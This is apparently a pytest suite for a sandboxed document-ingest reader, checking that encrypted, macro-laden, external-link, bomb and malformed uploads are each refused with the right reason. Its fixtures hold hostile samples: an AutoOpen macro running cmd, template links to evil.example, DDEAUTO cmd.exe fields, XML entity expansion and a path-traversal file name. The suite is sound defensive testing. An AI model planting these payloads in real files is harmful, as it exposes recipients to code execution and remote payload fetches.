"""Strangers' files: each that cannot be used costs one line with the right reason, and never the ingest."""

import random
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from ingest.documents import SourceDocument
from ingest.reader import Outcome
from ingest.reading import MAX_BYTES
from ingest.refusals import Reason, Refusal
from ingest.sandbox import Sandbox
from tests.ingest import office, samples

MB = 1024 * 1024
CONTENT_TYPES = b'<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><Types>&b;</Types>'


MACRO = 'Attribute VB_Name = "M"\r\nSub AutoOpen()\r\nShell "cmd"\r\nEnd Sub\r\n'
EMPTY_ZIP = b"PK\x05\x06" + bytes(18)
TEMPLATE = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>'
)
UTF_7 = b'<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE a+AD4-'


SETTINGS, SHEET = "word/_rels/settings.xml.rels", "xl/worksheets/sheet1.xml"
WIDE = (
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    + b'<row><c r="XFD1" t="inlineStr"><is><t>a</t></is></c></row>' * 20
    + b"</sheetData></worksheet>"
)


@pytest.fixture(scope="module")
def sandbox() -> Iterator[Sandbox]:
    with Sandbox() as sandbox:
        yield sandbox


def reason(outcome: Outcome) -> Reason | None:
    return outcome.reason if isinstance(outcome, Refusal) else None


UNREADABLE = {
    "encrypted.pdf": (samples.encrypted_pdf(user_password="secret"), Reason.ENCRYPTED),
    "encrypted.docx": (office.compound({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}), Reason.ENCRYPTED),
    "encrypted.doc": (office.doc([("Secret.", "Arial")], flags=0x100), Reason.ENCRYPTED),
    "encrypted.xls": (office.xls([["a"]], protected=True), Reason.ENCRYPTED),
    "encrypted.ppt": (office.ppt(["a"], encrypted=True), Reason.ENCRYPTED),
    "word95.doc": (office.doc([("Old.", "Arial")], version=0x68), Reason.UNKNOWN_TYPE),
    "macro.doc": (office.compound({"WordDocument": b"x", "Macros/Module1": office.vba_module(MACRO)}), Reason.MACROS),
    "macro.xls": (office.compound({"Workbook": b"x", "_VBA_PROJECT_CUR/M": office.vba_module(MACRO)}), Reason.MACROS),
    "macro.docx": (samples.with_member(samples.docx_file(), "word/vbaProject.bin", b"x"), Reason.MACROS),
    "macro.docm": (samples.with_member(samples.docx_file(), "word/vbaProject.bin", b"x"), Reason.MACROS),
    "macro.xlsx": (samples.with_member(samples.xlsx_file(), "xl/vbaProject.bin", b"x"), Reason.MACROS),
    "macro4.xlsx": (samples.with_member(samples.xlsx_file(), "xl/macrosheets/sheet1.xml", b"<a/>"), Reason.MACROS),
    "program.docx": (samples.with_member(samples.docx_file(), "word/embeddings/a.exe", b"MZ"), Reason.MACROS),
    "inner.docx": (samples.with_member(samples.docx_file(), "word/embeddings/a.zip", b"PK"), Reason.ARCHIVE),
    "plain.zip": (samples.with_member(EMPTY_ZIP, "a.txt", b"a"), Reason.ARCHIVE),
    "zip.txt": (samples.with_member(EMPTY_ZIP, "a.txt", b"a"), Reason.ARCHIVE),
    "rar.doc": (b"Rar!\x1a\x07\x00", Reason.ARCHIVE),
    "slides.pptx": (samples.with_member(EMPTY_ZIP, "ppt/presentation.xml", b"<a/>"), Reason.UNKNOWN_TYPE),
    "web.doc": (b"MIME-Version: 1.0\r\n", Reason.UNKNOWN_TYPE),
    "template.docx": (samples.with_member(samples.docx_file(), SETTINGS, TEMPLATE), Reason.EXTERNAL),
    "template.rtf": (rb"{\rtf1{\*\template http://evil.example/a.dot}Text.\par}", Reason.EXTERNAL),
    "update.rtf": (rb"{\rtf1{\object\objautlink\objupdate{\*\objdata 00}}Text.\par}", Reason.EXTERNAL),
    "dde.rtf": (rb'{\rtf1{\field{\*\fldinst DDEAUTO c:\\cmd.exe "/k"}{\fldrslt x}}Text.\par}', Reason.EXTERNAL),
    "dde.doc": (office.doc([("A\x13DDEAUTO cmd\x14b\x15\r", "Arial")]), Reason.EXTERNAL),
    "deep.rtf": (rb"{\rtf1" + b"{" * 5000 + b"Text." + b"}" * 5000, Reason.BROKEN),
    "bomb.xlsx": (samples.with_member(samples.xlsx_file(), SHEET, bytes(8 * MB)), Reason.TOO_LARGE),
    "entities.xlsx": (samples.with_member(samples.xlsx_file(), "xl/sharedStrings.xml", CONTENT_TYPES), Reason.BROKEN),
    "utf7.docx": (samples.with_member(samples.docx_file(), "word/document.xml", UTF_7), Reason.BROKEN),
    "wide.xlsx": (samples.with_member(samples.xlsx_file(), SHEET, WIDE), Reason.TOO_LARGE),
    "scan.pdf": (samples.pdf([[], []]), Reason.EMPTY),
    "empty.txt": (b"", Reason.EMPTY),
    "blank.md": (b"\n \n", Reason.EMPTY),
    "digits.html": (b"<p>12 34</p>", Reason.EMPTY),
    "headings.html": (b"<h1>Only a title</h1>", Reason.EMPTY),
    "image.txt": (b"\x89PNG\r\n\x1a\n\x00\x00", Reason.NOT_TEXT),
    "data.md": (random.Random(1).randbytes(4000), Reason.NOT_TEXT),  # noqa: S311
    "noise.docx": (random.Random(2).randbytes(4000), Reason.NOT_TEXT),  # noqa: S311
    "program.doc": (b"MZ" + bytes(600), Reason.NOT_TEXT),
    "old.docx": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), Reason.BROKEN),
    "cut.pdf": (samples.pdf([["A text."]])[:200], Reason.BROKEN),
    "cut.docx": (samples.docx_file()[:3000], Reason.BROKEN),
    "cut.doc": (office.doc([("A text.", "Arial")])[:2000], Reason.BROKEN),
    "bomb.docx": (samples.with_member(samples.docx_file(), "word/bomb.xml", bytes(8 * MB)), Reason.TOO_LARGE),
    "entities.docx": (samples.with_member(samples.docx_file(), "[Content_Types].xml", CONTENT_TYPES), Reason.BROKEN),
    "large.txt": (b"a " * (MAX_BYTES // 2 + 1), Reason.TOO_LARGE),
    "sheet.xlsx": (b"PK\x03\x04", Reason.BROKEN),
    "README": (b"text", Reason.UNKNOWN_TYPE),
    "arabic.txt": ("صحة الأطفال مهمة".encode(), Reason.FOREIGN_LANGUAGE),
}  # fmt: skip


@pytest.mark.parametrize("name", UNREADABLE)
def test_an_unreadable_file_is_refused_for_the_right_reason(name: str, sandbox: Sandbox, tmp_path: Path) -> None:
    data, expected = UNREADABLE[name]
    (tmp_path / name).write_bytes(data)
    outcome = sandbox.read(tmp_path / name)
    assert isinstance(outcome, Refusal)
    assert outcome.reason == expected, outcome
    assert str(outcome).startswith(str(tmp_path / name))
    assert "\n" not in str(outcome)


def test_a_pdf_that_opens_without_asking_for_a_password_is_read(sandbox: Sandbox, tmp_path: Path) -> None:
    (tmp_path / "owner.pdf").write_bytes(samples.encrypted_pdf(user_password=""))
    assert reason(sandbox.read(tmp_path / "owner.pdf")) is None


def test_a_pdf_that_explodes_is_refused_within_its_memory(tmp_path: Path) -> None:
    (tmp_path / "bomb.pdf").write_bytes(samples.pdf([[]], stream=bytes(300 * MB)))
    with Sandbox(memory=512 * MB) as sandbox:
        assert reason(sandbox.read(tmp_path / "bomb.pdf")) in (Reason.BROKEN, Reason.TOO_LARGE)


def test_a_file_that_needs_more_memory_than_allowed_is_refused_and_the_next_is_read(tmp_path: Path) -> None:
    (tmp_path / "wide.txt").write_text("Một câu rất dài. " * 900_000)
    (tmp_path / "good.txt").write_text("Trẻ em được miễn phí.")
    with Sandbox(memory=160 * MB) as sandbox:
        assert reason(sandbox.read(tmp_path / "wide.txt")) is Reason.TOO_LARGE
        assert reason(sandbox.read(tmp_path / "good.txt")) is None


def test_a_file_that_takes_for_ever_is_given_up_and_the_next_is_read(tmp_path: Path) -> None:
    (tmp_path / "slow.pdf").write_bytes(samples.pdf([[]], stream=b"BT /F1 12 Tf (a) Tj ET " * 850_000))
    (tmp_path / "good.pdf").write_bytes(samples.pdf([["Children are vaccinated free of charge."]]))
    with Sandbox(seconds=0.25) as sandbox:
        started = time.monotonic()
        assert reason(sandbox.read(tmp_path / "slow.pdf")) is Reason.TOO_SLOW
        assert reason(sandbox.read(tmp_path / "good.pdf")) is None
    assert time.monotonic() - started < 5


def test_deep_nesting_does_not_end_the_reader(sandbox: Sandbox, tmp_path: Path) -> None:
    (tmp_path / "deep.html").write_text("<div>" * 20_000 + "Children are vaccinated." + "</div>" * 20_000)
    (tmp_path / "deep.md").write_text(">" * 50_000 + " Children are vaccinated.")
    for name in ("deep.html", "deep.md"):
        sandbox.read(tmp_path / name)
    (tmp_path / "good.txt").write_text("Trẻ em được miễn phí.")
    assert reason(sandbox.read(tmp_path / "good.txt")) is None


def test_a_vanished_file_is_one_refusal(sandbox: Sandbox, tmp_path: Path) -> None:
    assert reason(sandbox.read(tmp_path / "gone.txt")) is Reason.BROKEN


def test_a_file_is_judged_by_its_content_and_its_name_is_said_to_be_wrong(sandbox: Sandbox) -> None:
    for name, data, told in (
        ("a.pdf", "Trẻ em được miễn phí.".encode(), "named .pdf, read as text"),
        ("a.docx", office.doc([("Children are vaccinated.", "Arial")]), "named .docx, read as Word 97–2003 (.doc)"),
        ("a.doc", b"<html><p>Children are vaccinated.</p></html>", "named .doc, read as HTML"),
        ("a.doc", rb"{\rtf1 Children are vaccinated.\par}", "named .doc, read as Rich Text (.rtf)"),
        ("a.txt", samples.xlsx_file(), "named .txt, read as Excel (.xlsx)"),
        ("upload", samples.docx_file(), "named without extension, read as Word (.docx)"),
    ):
        document = sandbox.read_upload(name, data)
        assert isinstance(document, SourceDocument), document
        assert told in document.notes


def test_an_upload_keeps_its_name_and_not_the_place_where_it_was_put(sandbox: Sandbox) -> None:
    document = sandbox.read_upload("C:\\Tài liệu\\Tờ rơi sốt.txt", "Trẻ em được miễn phí.".encode())
    assert isinstance(document, SourceDocument)
    assert (document.source_path, document.document_id) == ("Tờ rơi sốt.txt", "to-roi-sot")
    refused = sandbox.read_upload("../../etc/x.txt", b"")
    assert isinstance(refused, Refusal)
    assert refused.path == "x.txt"


@pytest.mark.parametrize("name", ["slow.rtf", "slow.xlsx", "slow.doc", "slow.docx"])
def test_each_format_ends_with_its_time(name: str) -> None:
    sentence = "Đây là một câu rất dài. "
    data = {
        "slow.rtf": rb"{\rtf1 " + b"{\\b a}\\par " * 1_000_000 + b"}",
        "slow.xlsx": samples.xlsx_file(rows=[[sentence] * 10] * 4_000),
        "slow.doc": office.doc([("C¸c b¹n " * 400_000, ".VnTime")]),
        "slow.docx": samples.long_docx_file(sentence, 12_000),
    }[name]
    with Sandbox(seconds=0.5) as sandbox:
        started = time.monotonic()
        outcome = sandbox.read_upload(name, data)
        assert time.monotonic() - started < 5
        assert reason(outcome) is Reason.TOO_SLOW, outcome
        assert reason(sandbox.read_upload("good.txt", b"Children are vaccinated.")) is None


def test_a_sheet_that_claims_the_last_row_and_column_costs_no_memory() -> None:
    sheet = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="A1:XFD1048576"/>'
        b'<sheetData><row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>A text.</t></is></c></row></sheetData>'
        b"</worksheet>"
    )
    with Sandbox(memory=512 * MB, seconds=20) as sandbox:
        outcome = sandbox.read_upload(
            "a.xlsx", samples.with_member(samples.xlsx_file(), "xl/worksheets/sheet1.xml", sheet)
        )
    assert reason(outcome) in (None, Reason.TOO_LARGE), outcome
